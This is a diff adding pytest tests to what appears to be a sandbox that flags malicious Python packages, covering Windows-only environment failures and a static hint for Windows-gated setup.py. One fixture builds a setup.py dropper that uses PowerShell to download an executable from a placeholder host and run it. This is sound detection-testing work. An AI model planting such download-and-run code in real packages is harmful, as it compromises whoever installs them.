@@ -65,6 +65,33 @@ def test_windows_trigger_fires_on_windows_only_variables(var: str) -> None:
     assert passes.windows_trigger([{"phase": "install", "steps": [{"output": "KeyError: 'HOME'"}]}]) == ""
 
 
+@pytest.mark.parametrize(
+    "detail",
+    [
+        # os.path.join(os.getenv("APPDATA"), ...) at import (pywincompiler; real line)
+        "TypeError: expected str, bytes or os.PathLike object, not NoneType",
+        # os.getenv("LOCALAPPDATA") + "\\Discord" (extracolorsv2; real line)
+        "TypeError: unsupported operand type(s) for +: 'NoneType' and 'str'",
+        # "C:\\\\Users\\\\" + os.getenv("USERNAME"): a str before the None
+        'TypeError: can only concatenate str (not "NoneType") to str',
+    ],
+)
+def test_windows_trigger_fires_on_a_windows_variable_read_with_getenv(detail: str) -> None:
+    res = [{"phase": "import", "modules": [{"name": "m", "status": "error", "detail": detail}], "steps": []}]
+    assert passes.windows_trigger(res).startswith("the default pass failed on a Windows-only variable")
+    other = "TypeError: expected str, bytes or os.PathLike object, not int"
+    res = [{"phase": "import", "modules": [{"name": "m", "status": "error", "detail": other}], "steps": []}]
+    assert passes.windows_trigger(res) == ""
+
+
+def test_windows_trigger_fires_on_getlogin_failing_in_a_setup_py_command() -> None:
+    # a cmdclass install calling os.getlogin(): distutils prints the OSError as "error: …"
+    # (sagetestseven; real lines of pip's output)
+    out = "      running install\n      error: [Errno 6] No such device or address\n      [end of output]\n"
+    why = passes.windows_trigger([{"phase": "install", "steps": [{"output": out}]}])
+    assert why.startswith("the default pass failed on a Windows-only call"), why
+
+
 def test_windows_pass_follows_a_failed_install(tmp_path: Path) -> None:
     plan = {"passes": {"windows": {"when": "auto", "trigger": "windows"}, "time": {"when": "auto"}}}
     out = "ImportError: cannot import name 'windll' from 'ctypes' (/usr/lib/python3.11/ctypes/__init__.py)"
@@ -378,6 +405,40 @@ def test_pass_hint_names_the_kept_rules_that_matched(tmp_path: Path) -> None:
     assert pass_hint(evil).startswith("static rules matched") and pass_hint(plain) == ""
     write_pass_hint(evil, tmp_path)
     assert json.loads((tmp_path / "static.json").read_text())["hint"].startswith("static rules matched")
+
+
+def windows_dropper(gate: str, host: str) -> str:
+    """setup.py code that, under *gate*, downloads a program and starts it
+    (tabulation-shaped; TEST-NET *host*, nothing there to run)."""
+    cmd = (
+        f"powershell -command Invoke-WebRequest -UseBasicParsing -Uri http://{host}/u.exe "
+        "-OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe"
+    )
+    return f"import os, subprocess, sys\n{gate}\n    subprocess.Popen(r{cmd!r}, shell=True)\n"
+
+
+def _windows_dropper_setup(gate: str, host: str) -> str:
+    return windows_dropper(gate, host) + "from setuptools import setup\nsetup(name='x')\n"
+
+
+def test_pass_hint_for_a_windows_gated_setup_py_that_downloads_and_runs(tmp_path: Path) -> None:
+    """Download-and-run in setup.py is a rule too noisy on benign code to speak alone;
+    gated on Windows, it calls for the Windows pass."""
+    from sandbox.judge.static import pass_hint
+    from tests.fixtures.builders import Randomised, build_sdist
+
+    r = Randomised()
+    gate = r.rng.choice(
+        ['if os.name == "nt":', "if sys.platform == 'win32':", "if sys.platform.startswith('win'):"]
+    )
+    gated = build_sdist(
+        tmp_path, r.name("gated"), "1.0", {}, setup_py=_windows_dropper_setup(gate, r.address())
+    )
+    plain = build_sdist(
+        tmp_path, r.name("open"), "1.0", {}, setup_py=_windows_dropper_setup("if True:", r.address())
+    )
+    assert "setup.py gated on Windows" in pass_hint(gated), pass_hint(gated)
+    assert pass_hint(plain) == ""
 
 
 def test_windows_trigger_on_a_command_line_popen_and_the_pass_runs_it(tmp_path: Path) -> None:
